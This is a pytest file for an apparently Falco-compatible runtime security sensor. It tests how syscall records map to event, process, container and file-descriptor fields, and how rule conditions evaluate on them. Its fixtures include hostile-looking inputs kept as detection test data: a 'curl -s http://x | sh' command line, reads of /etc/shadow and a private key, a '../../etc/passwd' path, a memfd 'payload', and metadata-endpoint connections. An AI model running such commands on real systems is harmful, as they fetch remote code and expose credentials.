"""The ``syscall`` fields on runtime records as the sensor writes them: Falco's names and meanings."""

from __future__ import annotations

from typing import Any

import pytest
from tests.syscall_records import (
    APP_LINEAGE,
    CONTAINER,
    CONTAINER_ID,
    CONTAINERD_SHIM,
    NS,
    O_APPEND,
    O_CLOEXEC,
    O_CREAT,
    O_DIRECTORY,
    O_RDONLY,
    O_RDWR,
    O_TRUNC,
    O_WRONLY,
    SHELL,
    T0,
    UVICORN,
    Proc,
    connect,
    event,
    execve,
    openat,
    record,
    setuid,
)

from jackwatch.model import Event
from jackwatch.rules.condition import compile_condition, evaluate, expand, parse
from jackwatch.rules.fields.syscall import UNAVAILABLE, image_parts, mode_text, open_flags_text, syscall_fields

FIELDS = syscall_fields()
CAT = Proc(5000, "cat", ["/etc/shadow"], "/usr/bin/cat", ppid=4242, vpid=9)


def value(name: str, raw: dict[str, Any] | Event, arg: str | None = None) -> object:
    found = raw if isinstance(raw, Event) else event(raw)
    return FIELDS.fields[name].extract(found, arg)


def holds(condition: str, raw: dict[str, Any]) -> bool:
    """The condition on the record, compiled and evaluated by the reference walk: both must agree."""
    node = expand(parse(condition), {}, {})
    compiled = compile_condition(node, FIELDS)(event(raw))
    assert compiled == evaluate(node, event(raw), FIELDS), condition
    return compiled


# ------------------------------------------------------------------------------------------------ evt


def test_event_fields_of_an_exec() -> None:
    raw = execve(SHELL, at=T0 + 123_456_789)
    assert value("evt.type", raw) == "execve"
    assert value("syscall.type", raw) == "execve"
    assert value("evt.dir", raw) == "<"
    assert value("evt.num", raw) is None
    assert value("evt.source", raw) == "syscall"
    assert value("evt.hostname", raw) == "node-1"
    assert value("evt.time", raw) == "10:00:00.123456789"
    assert value("evt.time.s", raw) == "10:00:00"
    assert value("evt.time.iso8601", raw) == "2026-05-01T10:00:00.123456789Z"
    assert value("evt.datetime", raw) == "2026-05-01 10:00:00.123456789"
    assert value("evt.datetime.s", raw) == "2026-05-01 10:00:00"
    assert value("evt.rawtime", raw) == T0 + 123_456_789
    assert value("evt.rawtime.s", raw) == T0 // NS
    assert value("evt.rawtime.ns", raw) == 123_456_789
    assert value("evt.res", raw) == "SUCCESS"
    assert value("evt.rawres", raw) == 0
    assert value("evt.failed", raw) is False


def test_never_true_never_holds_and_procexit_is_no_syscall() -> None:
    assert not holds("evt.num=0", execve(SHELL))
    assert holds("not evt.num=0", execve(SHELL))
    assert value("syscall.type", record("procexit", SHELL, exit_code=1)) is None
    assert value("evt.arg.status", record("procexit", SHELL, exit_code=1)) == 1


def test_results_and_errors() -> None:
    failed = openat(CAT, "/etc/shadow", res=-13)
    assert value("evt.res", failed) == "EACCES"
    assert value("evt.rawres", failed) == -13
    assert value("evt.failed", failed) is True
    assert value("evt.arg.res", failed) == "-13(EACCES)"
    assert value("fd.num", failed) == -1
    assert value("fd.num", openat(CAT, "/etc/shadow", res=5)) == 5
    assert value("evt.res", record("execve", SHELL, res=None)) is None
    assert value("fd.num", record("execve", SHELL)) is None


@pytest.mark.parametrize(
    ("flags", "read", "write"),
    [
        (O_RDONLY, True, False),
        (O_RDONLY | O_CLOEXEC, True, False),
        (O_WRONLY | O_CREAT | O_TRUNC, False, True),
        (O_RDWR, True, True),
        (O_WRONLY | O_APPEND, False, True),
    ],
)
def test_open_for_reading_or_writing(flags: int, read: bool, write: bool) -> None:
    raw = openat(CAT, "/tmp/x", flags)
    assert value("evt.is_open_read", raw) is read
    assert value("evt.is_open_write", raw) is write
    assert value("evt.is_open_exec", raw) is False


def test_open_exec_needs_a_created_executable_file() -> None:
    assert value("evt.is_open_exec", openat(CAT, "/tmp/x", O_WRONLY | O_CREAT, mode=0o755)) is True
    assert value("evt.is_open_exec", openat(CAT, "/tmp/x", O_WRONLY | O_CREAT, mode=0o644)) is False
    assert value("evt.is_open_exec", openat(CAT, "/tmp/x", O_WRONLY, mode=0o755)) is False
    assert value("evt.is_open_read", execve(SHELL)) is False
    assert value("evt.is_open_write", connect(UVICORN, "1.1.1.1", 443)) is False


def test_open_flags_and_modes_as_falco_writes_them() -> None:
    assert open_flags_text(O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC) == "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC"
    assert open_flags_text(O_RDONLY) == "O_RDONLY"
    assert open_flags_text(O_RDWR | O_DIRECTORY) == "O_DIRECTORY|O_RDWR"
    assert open_flags_text(0o4010001) == "O_SYNC|O_WRONLY"  # O_SYNC includes O_DSYNC's bit
    assert mode_text(0o755) == "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR"
    assert mode_text(0o4755).endswith("|S_ISUID")
    raw = openat(CAT, "/tmp/.x", O_WRONLY | O_CREAT, mode=0o600)
    assert value("evt.arg.flags", raw) == "O_CREAT|O_WRONLY"
    assert value("evt.rawarg.flags", raw) == O_WRONLY | O_CREAT
    assert value("evt.arg.mode", raw) == "S_IWUSR|S_IRUSR"
    assert value("evt.rawarg.mode", raw) == 0o600
    assert value("evt.arg.name", raw) == "/tmp/.x"
    assert value("evt.arg.fd", raw) == "3(<f>/tmp/.x)"
    assert value("evt.rawarg.fd", raw) == 3
    assert holds('evt.arg.flags contains "O_CREAT"', raw)
    assert not holds('evt.arg.flags contains "O_TRUNC"', raw)


def test_arguments_of_events_the_sensor_does_not_capture_are_missing() -> None:
    raw = openat(CAT, "/etc/shadow")
    for name in ("evt.arg.newpath", "evt.arg.oldpath", "evt.arg.path", "evt.arg.request", "evt.arg.target"):
        assert value(name, raw) is None, name
    assert value("evt.arg.flags", connect(UVICORN, "1.1.1.1", 443)) is None


def test_setuid_target_is_named_when_the_record_names_it() -> None:
    nobody = Proc(6000, "nrpe", [], "/usr/sbin/nrpe", uid=65534)
    assert value("evt.arg.uid", setuid(nobody, 65534)) == "nobody"
    assert value("evt.arg.uid", setuid(nobody, 0)) == "root"
    assert value("evt.arg.uid", setuid(nobody, 1234)) == "1234"
    assert value("evt.rawarg.uid", setuid(nobody, 1234)) == 1234
    assert value("evt.arg.uid", execve(nobody)) is None
    assert value("evt.arg.gid", record("setgid", nobody, target_uid=50)) == "50"


# ----------------------------------------------------------------------------------------------- proc


def test_process_fields() -> None:
    raw = execve(SHELL.but(args=["-c", "curl -s http://x | sh"], tty=34816, sid=4242))
    assert value("proc.name", raw) == "sh"
    assert value("proc.exe", raw) == "/bin/sh"
    assert value("proc.exepath", raw) == "/bin/dash"
    assert value("proc.args", raw) == "-c curl -s http://x | sh"
    assert value("proc.cmdline", raw) == "sh -c curl -s http://x | sh"
    assert value("proc.exeline", raw) == "/bin/sh -c curl -s http://x | sh"
    assert value("proc.cmdnargs", raw) == 2
    assert value("proc.cmdlenargs", raw) == len("-c") + len("curl -s http://x | sh")
    assert value("proc.pid", raw) == 4242
    assert value("proc.vpid", raw) == 7
    assert value("proc.ppid", raw) == 4100
    assert value("proc.cwd", raw) == "/app"
    assert value("proc.tty", raw) == 34816
    assert value("proc.sid", raw) == 4242
    assert value("proc.sname", raw) == "sh"
    assert value("thread.tid", raw) == 4242
    assert value("thread.ismain", raw) is True


def test_a_process_without_arguments() -> None:
    raw = execve(SHELL.but(args=[]))
    assert value("proc.args", raw) == ""
    assert value("proc.cmdline", raw) == "sh"
    assert holds("proc.args = ''", raw)


def test_parent_and_ancestors() -> None:
    raw = execve(CAT, [SHELL, *APP_LINEAGE])
    assert value("proc.pname", raw) == "sh"
    assert value("proc.pexe", raw) == "/bin/sh"
    assert value("proc.pexepath", raw) == "/bin/dash"
    assert value("proc.pcmdline", raw) == "sh -c id"
    assert value("proc.aname", raw, "0") == "cat"
    assert value("proc.aname", raw, "1") == "sh"
    assert value("proc.aname", raw, "2") == "uvicorn"
    assert value("proc.aname", raw, "3") == "containerd-shim"
    assert value("proc.aname", raw, "4") is None
    assert value("proc.aname", raw, "x") is None
    assert value("proc.apid", raw, "2") == 4100
    assert value("proc.aexe", raw, "2") == "/usr/local/bin/python"
    assert value("proc.aexepath", raw, "2") == "/usr/local/bin/python3.11"
    assert value("proc.acmdline", raw, "1") == "sh -c id"
    assert value("proc.aname", raw) == ("sh", "uvicorn", "containerd-shim")
    assert value("proc.apid", raw) == (4242, 4100, 812)


def test_ancestor_names_without_index_match_any_ancestor() -> None:
    raw = execve(CAT, [SHELL, *APP_LINEAGE])
    assert holds("proc.aname = uvicorn", raw)
    assert holds("proc.aname in (gunicorn, uvicorn)", raw)
    assert holds("proc.aname startswith containerd", raw)
    assert not holds("proc.aname = cat", raw)  # the process itself is not its own ancestor
    assert not holds("proc.aname in (dpkg, apt)", raw)
    assert holds("proc.apid = 812", raw)
    assert not holds("proc.aname in (sh)", execve(CAT, []))
    assert holds("not proc.aname in (sh)", execve(CAT, []))


def test_a_parent_without_known_arguments_has_no_command_line() -> None:
    raw = execve(CAT, [SHELL])
    del raw["lineage"][0]["args"]
    assert value("proc.pname", raw) == "sh"
    assert value("proc.pcmdline", raw) is None
    assert value("proc.pname", execve(CAT, [])) is None


def test_durations_and_starts() -> None:
    raw = execve(SHELL.but(start=T0 - 2 * NS), at=T0)
    assert value("proc.duration", raw) == 2 * NS
    assert value("proc.pid.ts", raw) == T0 - 2 * NS
    assert value("proc.ppid.duration", raw) == 3600 * NS
    assert holds("proc.duration <= 5000000000", raw)
    assert value("proc.ppid.duration", execve(SHELL, [])) is None


def test_executable_origin() -> None:
    assert value("proc.is_exe_upper_layer", execve(CAT.but(extra={"exe_upper_layer": True}))) is True
    assert value("proc.is_exe_upper_layer", execve(CAT.but(extra={"exe_upper_layer": False}))) is False
    assert value("proc.is_exe_upper_layer", execve(CAT)) is None
    memfd = CAT.but(exepath="/memfd:payload (deleted)")
    assert value("proc.is_exe_from_memfd", execve(memfd)) is True
    assert value("proc.is_exe_from_memfd", execve(CAT)) is False
    assert (
        value("evt.arg.flags", execve(memfd.but(extra={"exe_upper_layer": True}))) == "EXE_FROM_MEMFD|EXE_UPPER_LAYER"
    )


# ------------------------------------------------------------------------------------- user, group


def test_user_and_group() -> None:
    raw = execve(SHELL)
    assert (value("user.uid", raw), value("user.name", raw)) == (1000, "app")
    assert (value("group.gid", raw), value("group.name", raw)) == (1000, "app")
    assert value("user.loginuid", raw) == -1
    assert value("user.loginname", raw) is None
    unset = execve(SHELL.but(loginuid=0xFFFFFFFF))
    assert value("user.loginuid", unset) == -1
    logged = execve(SHELL.but(loginuid=1000))
    assert value("user.loginname", logged) == "app"
    bare = execve(SHELL)
    del bare["user"], bare["group"]
    assert (value("user.uid", bare), value("user.name", bare), value("group.gid", bare)) == (1000, None, 0)


# --------------------------------------------------------------------------------------- container


def test_container_fields() -> None:
    raw = execve(SHELL)
    assert value("container.id", raw) == CONTAINER_ID[:12]
    assert value("container.full_id", raw) == CONTAINER_ID
    assert value("container.name", raw) == "app"
    assert value("container.image", raw) == "ghcr.io/acme/openai-app:1.4.2"
    assert value("container.image.repository", raw) == "ghcr.io/acme/openai-app"
    assert value("container.image.tag", raw) == "1.4.2"
    assert value("container.image.id", raw) == CONTAINER["image_id"]
    assert value("container.type", raw) == "containerd"
    assert value("k8s.ns.name", raw) == "prod"
    assert value("k8s.pod.name", raw) == "openai-app-7d9f8c6b5-x2kq4"
    assert value("k8s.pod.uid", raw) == CONTAINER["pod_uid"]


def test_a_process_of_the_host_is_in_container_host() -> None:
    raw = execve(SHELL, container=None)
    assert value("container.id", raw) == "host"
    assert value("container.name", raw) == "host"
    assert value("container.image.repository", raw) is None
    assert value("k8s.ns.name", raw) is None
    assert holds("container.id = host", raw)
    assert not holds("container.id != host", raw)
    assert holds("container.id != host", execve(SHELL))
    assert value("container.id", execve(SHELL, container={"runtime": "docker"})) == "host"


@pytest.mark.parametrize(
    ("image", "parts"),
    [
        ("nginx", ("nginx", None, None)),
        ("nginx:1.25", ("nginx", "1.25", None)),
        ("localhost:5000/team/app:2", ("localhost:5000/team/app", "2", None)),
        ("localhost:5000/team/app", ("localhost:5000/team/app", None, None)),
        ("ghcr.io/a/b:1@sha256:abc", ("ghcr.io/a/b", "1", "sha256:abc")),
        ("ghcr.io/a/b@sha256:abc", ("ghcr.io/a/b", None, "sha256:abc")),
    ],
)
def test_image_references(image: str, parts: tuple[str, str | None, str | None]) -> None:
    assert image_parts(image) == parts


# ----------------------------------------------------------------------------------------------- fd


def test_file_fields() -> None:
    raw = openat(CAT, "/etc/ssl/private/key.pem")
    assert value("fd.name", raw) == "/etc/ssl/private/key.pem"
    assert value("fd.directory", raw) == "/etc/ssl/private"
    assert value("fd.filename", raw) == "key.pem"
    assert (value("fd.type", raw), value("fd.typechar", raw)) == ("file", "f")
    assert value("fd.sip", raw) is None
    assert value("fd.l4proto", raw) is None
    assert value("fd.directory", openat(CAT, "/shadow")) == "/"


def test_directory_fields() -> None:
    raw = openat(CAT, "/etc/sudoers.d", O_RDONLY | O_DIRECTORY)
    assert (value("fd.type", raw), value("fd.typechar", raw)) == ("directory", "d")
    assert value("fd.directory", raw) == "/etc/sudoers.d"
    assert value("fd.filename", raw) is None
    untyped = openat(CAT, "/etc/sudoers.d", O_RDONLY | O_DIRECTORY)
    del untyped["fd"]["type"]
    assert value("fd.typechar", untyped) == "d"


def test_raw_path_when_the_sensor_reports_it() -> None:
    raw = openat(CAT, "/etc/passwd")
    raw["fd"]["nameraw"] = "../../etc/passwd"
    assert value("fd.nameraw", raw) == "../../etc/passwd"
    assert value("evt.arg.name", raw) == "../../etc/passwd"
    assert value("fd.nameraw", openat(CAT, "/etc/passwd")) is None


def test_connection_fields() -> None:
    raw = connect(UVICORN, "162.159.140.245", 443, [CONTAINERD_SHIM], dns="api.openai.com")
    assert value("fd.name", raw) == "10.42.0.17:43862->162.159.140.245:443"
    assert (value("fd.type", raw), value("fd.typechar", raw), value("fd.sockfamily", raw)) == ("ipv4", "4", "ip")
    assert (value("fd.cip", raw), value("fd.lip", raw), value("fd.cport", raw), value("fd.lport", raw)) == (
        "10.42.0.17",
        "10.42.0.17",
        43862,
        43862,
    )
    assert (value("fd.sip", raw), value("fd.rip", raw), value("fd.sport", raw), value("fd.rport", raw)) == (
        "162.159.140.245",
        "162.159.140.245",
        443,
        443,
    )
    assert (value("fd.dip", raw), value("fd.dport", raw)) == ("162.159.140.245", 443)
    assert value("fd.sip.name", raw) == value("fd.rip.name", raw) == "api.openai.com"
    assert value("fd.l4proto", raw) == "tcp"
    assert value("fd.connected", raw) is True
    assert value("fd.name_changed", raw) is False
    assert value("fd.num", raw) is None
    assert value("evt.arg.addr", raw) == "162.159.140.245:443"
    assert value("fd.connected", connect(UVICORN, "1.1.1.1", 443, res=-115)) is False
    assert value("evt.res", connect(UVICORN, "1.1.1.1", 443, res=-115)) == "EINPROGRESS"


def test_either_end_of_a_connection() -> None:
    raw = connect(UVICORN, "169.254.169.254", 80)
    assert value("fd.ip", raw) == ("10.42.0.17", "169.254.169.254")
    assert holds("fd.ip = 169.254.169.254", raw)
    assert holds("fd.ip in (169.254.169.254, 8.8.8.8)", raw)
    assert holds("fd.port = 80", raw)
    assert holds("fd.net = 10.0.0.0/8", raw)
    assert holds('fd.net != "127.0.0.0/8"', raw)
    assert holds("fd.snet in (169.254.0.0/16)", raw)
    assert not holds("fd.snet in (10.0.0.0/8)", raw)
    assert not holds("fd.ip = 1.2.3.4", raw)
    assert not holds("fd.ip = 10.42.0.17", openat(CAT, "/etc/hosts"))


def test_ipv6_connection() -> None:
    raw = connect(UVICORN, "fd00:ec2::254", 80, sip="fd00::17")
    assert (value("fd.type", raw), value("fd.typechar", raw)) == ("ipv6", "6")
    assert holds("fd.sip = fd00:ec2::254", raw)
    untyped = connect(UVICORN, "fd00:ec2::254", 80, sip="fd00::17")
    del untyped["fd"]["type"], untyped["fd"]["name"]
    assert value("fd.typechar", untyped) == "6"
    assert value("fd.name", untyped) == "fd00::17:43862->fd00:ec2::254:80"


# ------------------------------------------------------------------------------------- unavailable


def test_unavailable_fields_are_registered_as_such() -> None:
    raw = execve(SHELL)
    for name in UNAVAILABLE:
        field = FIELDS.fields[name]
        assert not field.available, name
        assert field.extract(event(raw), None) is None, name
        assert "Not available" in field.doc
    assert all(field.available for name, field in FIELDS.fields.items() if name not in UNAVAILABLE)


def test_every_field_is_documented_and_typed() -> None:
    raw = execve(CAT, [SHELL, *APP_LINEAGE])
    for name, field in FIELDS.fields.items():
        assert field.doc.endswith("."), name
        found = field.extract(event(raw), None)
        assert found is None or isinstance(found, str | int | bool | tuple), name
        assert not isinstance(found, tuple) or field.is_list, name


def test_a_bare_record_has_only_what_it_says() -> None:
    bare = event({"type": "execve", "time": T0, "proc": {"pid": 7}})
    found = {name: field.extract(bare, None) for name, field in FIELDS.fields.items()}
    present = {name: found_value for name, found_value in found.items() if found_value not in (None, ())}
    timed = {name for name in present if name.startswith(("evt.time", "evt.datetime", "evt.rawtime"))}
    assert {name: present[name] for name in present.keys() - timed} == {
        "evt.type": "execve",
        "syscall.type": "execve",
        "evt.dir": "<",
        "evt.source": "syscall",
        "evt.is_open_read": False,
        "evt.is_open_write": False,
        "evt.is_open_exec": False,
        "proc.pid": 7,
        "evt.arg.pid": 7,
        "thread.tid": 7,
        "thread.ismain": True,
        "container.id": "host",
        "container.full_id": "host",
        "container.name": "host",
    }
